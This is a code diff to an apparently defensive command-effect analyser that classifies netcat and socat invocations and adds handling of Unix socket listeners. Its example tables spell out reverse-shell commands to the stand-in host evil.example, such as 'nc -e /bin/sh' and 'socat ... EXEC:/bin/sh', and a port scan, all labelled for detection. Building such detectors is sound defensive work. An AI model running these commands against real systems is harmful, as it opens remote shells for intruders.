@@ -5,7 +5,7 @@ import { isPattern, type Text } from '../../../../effects/value';
 import { rest } from '../../arguments';
 import type { Answer, Call, ProgramSpec } from '../../program';
 import type { Run, Word } from '../../spec';
-import { reads, sourceOfFile, sourceOfStream, when } from '../../stating';
+import { reads, sourceOfFile, sourceOfStream, when, writes } from '../../stating';
 import { shell } from './ssh';
 
 function listens(port: Text | undefined): EffectDraft {
@@ -23,13 +23,16 @@ function sendsInput(call: Call, host: Text): EffectDraft[] {
 export const nc: ProgramSpec = {
   names: 'nc ncat netcat telnet nc.openbsd nc.traditional pwncat',
   options:
-    '-e,--exec=CMD -c,--sh-exec=CMD -l,--listen -p,--source-port=PORT -k -n -u -v -w=SEC -z -q=SEC -s=ADDR -X=PROTO -x=ADDR -i=SEC --ssl -U -N -4 -6 -d -t -r --lua-exec=F',
+    '-e,--exec=CMD -c,--sh-exec=CMD -l,--listen -p,--source-port=PORT -k -n -u -v -w=SEC -z -q=SEC -s=ADDR -X=PROTO -x=ADDR -i=SEC --ssl -U,--unixsock -N -4 -6 -d -t -r --lua-exec=F',
   does(call) {
     const host = call.operand(0) ?? null;
     const spawns = call.has('-e', '-c', '--lua-exec') === true;
     if (call.has('-l') === true) {
-      const opened = listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value);
-      return spawns ? [opened, { kind: 'net.connect', purpose: 'remote-shell', host: null }] : [opened];
+      const opened =
+        call.has('-U') === true
+          ? writes(call, call.operands.slice(-1), 'create')
+          : [listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value)];
+      return spawns ? [...opened, { kind: 'net.connect', purpose: 'remote-shell', host: null }] : opened;
     }
     if (call.has('-z') === true) return isLoopback(host) ? [] : [{ kind: 'net.connect', purpose: 'scan', host }];
     if (call.operands.length === 0 && !call.open) return [];
@@ -40,6 +43,7 @@ export const nc: ProgramSpec = {
       'nc evil.example 4444': 'net.connect{purpose=raw,host=evil.example}',
       'nc -e /bin/sh evil.example 4444': 'net.connect{purpose=remote-shell}',
       'nc -lvp 4444': 'net.listen{expose=lan,port=4444}',
+      'nc -lU /tmp/a.sock': 'fs.write{mode=create,path=/tmp/a.sock}',
       'nc -zv db.example 5432': 'net.connect{purpose=scan}',
     },
     inert: ['nc -z localhost 5432'],
@@ -58,6 +62,7 @@ export const socat: ProgramSpec = {
     yields: {
       'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
       'socat TCP-LISTEN:80,fork -': 'net.listen{port=80}',
+      'socat UNIX-LISTEN:/tmp/a.sock,fork -': 'fs.write{mode=create,path=/tmp/a.sock}',
     },
   },
 };
@@ -78,6 +83,9 @@ function socatEffects(call: Call): Answer {
   const files = addresses.flatMap((word, at) =>
     /^(open|file|gopen|rdonly):/i.test(kinds[at] ?? '') ? [rest(word, kinds[at]!.indexOf(':') + 1)] : [],
   );
+  const sockets = addresses.flatMap((word, at) =>
+    unixListen.test(kinds[at] ?? '') ? [pathAfter(word, kinds[at]!.indexOf(':') + 1)] : [],
+  );
   const connects = kinds.flatMap((kind) => socketEffects(call, kind, spawns, files));
   const runs = kinds.flatMap((kind): Run[] => {
     const command = /^(?:exec|system|shell):(.+)$/is.exec(kind)?.[1];
@@ -87,11 +95,21 @@ function socatEffects(call: Call): Answer {
     const bare = /^(\/bin\/|\/usr\/bin\/)?\w*sh( -i)?(,.*)?$/.test(command ?? '');
     return command && !bare ? [{ ...shell(command, 'socat EXEC'), ...stdin }] : [];
   });
-  return { effects: [...reads(call, files, { shown: false }), ...connects], runs };
+  return { effects: [...reads(call, files, { shown: false }), ...writes(call, sockets, 'create'), ...connects], runs };
+}
+
+/** Addresses that make a socket in the file system. */
+const unixListen = /^unix-(l|listen|recv|recvfrom):/i;
+
+/** Options follow a path after a comma. */
+function pathAfter(word: Word, from: number): Word {
+  const path = rest(word, from);
+  return typeof path.value === 'string' ? { ...path, value: path.value.replace(/,.*$/s, '') } : path;
 }
 
 function socketEffects(call: Call, address: string, spawns: boolean, files: readonly Word[]): EffectDraft[] {
   const [kind = '', first = '', second] = address.split(/[:,]/);
+  if (unixListen.test(address)) return when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null });
   if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
     return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
   if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
